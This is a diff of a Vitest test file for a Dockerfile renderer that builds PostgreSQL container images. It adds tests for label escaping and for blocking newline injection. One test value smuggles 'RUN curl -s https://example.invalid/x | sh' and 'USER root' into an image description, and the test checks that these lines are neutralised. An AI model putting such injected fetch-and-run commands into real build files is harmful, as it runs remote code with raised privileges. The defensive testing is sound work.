@@ -1,7 +1,8 @@
 import { describe, expect, it } from "vitest";
-import { baseArg, dockerfileFor, joinScript, renderStep } from "../../src/render/dockerfile.js";
+import { recipeFor } from "../../src/recipes/index.js";
+import { baseArg, dockerfileFor, joinScript, labelValue, renderDockerfile, renderStep } from "../../src/render/dockerfile.js";
 import type { Step } from "../../src/recipes/types.js";
-import { ctx, plan } from "./helpers.js";
+import { ctx, plan, target } from "./helpers.js";
 
 describe("steps", () => {
   it.each<[Step, string]>([
@@ -39,7 +40,8 @@ describe("Dockerfiles", () => {
       "",
       "FROM ${BASE_MINIMAL_17_TRIXIE}",
     ]);
-    expect(text.trimEnd().split("\n").slice(-4)).toEqual(["ENV PATH=\"/usr/lib/postgresql/17/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"", "ENTRYPOINT []", `CMD ["bash"]`, "USER 26"]);
+    const lines = text.trimEnd().split("\n");
+    expect(lines.slice(lines.findIndex((l) => l.startsWith("LABEL ")) - 4, lines.findIndex((l) => l.startsWith("LABEL ")))).toEqual(["ENV PATH=\"/usr/lib/postgresql/17/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"", "ENTRYPOINT []", `CMD ["bash"]`, "USER 26"]);
   });
 
   it("minimal starts FROM the digest-pinned base", () => {
@@ -60,5 +62,33 @@ describe("Dockerfiles", () => {
 
   it.each([["minimal-17-trixie", "BASE_MINIMAL_17_TRIXIE"], ["pgupgradetester-bookworm", "BASE_PGUPGRADETESTER_BOOKWORM"]])("baseArg(%s) = %s", (id, arg) => {
     expect(baseArg(id)).toBe(arg);
+  });
+});
+
+describe("matrix text in a Dockerfile", () => {
+  it.each([
+    ["PostgreSQL server", `"PostgreSQL server"`],
+    [`say "hi"`, `"say \\"hi\\""`],
+    ["costs $HOME ${X}", `"costs \\$HOME \\\${X}"`],
+    ["a\\b", `"a\\\\b"`],
+    ["one\nRUN evil", `"one\\u000aRUN evil"`],
+    ["cr\r\u2028", `"cr\\u000d\\u2028"`],
+  ])("LABEL value %j is %s", (value, quoted) => {
+    expect(labelValue(value)).toBe(quoted);
+  });
+
+  // Validation refuses these; the renderer must not depend on it.
+  it("keeps a multi-line description and annotation from starting instructions", () => {
+    const t = target("minimal-17-trixie");
+    const evil = "PostgreSQL\nRUN curl -s https://example.invalid/x | sh\r\nUSER root";
+    const text = renderDockerfile({ ...t, description: evil, annotations: { ...t.annotations, "org.opencontainers.image.description": evil } }, recipeFor(t, ctx), () => undefined);
+    expect(text.split("\n").filter((l) => /^(RUN curl|USER root)/.test(l.trimStart()))).toEqual([]);
+    expect(text).toContain("# minimal-17-trixie: PostgreSQL\\u000aRUN curl -s https://example.invalid/x | sh\\u000d\\u000aUSER root\n");
+  });
+
+  it("writes the OCI annotations as labels, last", () => {
+    const text = dockerfileFor(plan, "minimal-17-trixie", ctx).trimEnd().split("\n");
+    const at = text.findIndex((l) => l.startsWith("LABEL "));
+    expect(text.slice(at).map((l) => l.trim().split("=")[0]!.replace(/^LABEL /, ""))).toEqual(Object.keys(target("minimal-17-trixie").annotations));
   });
 });
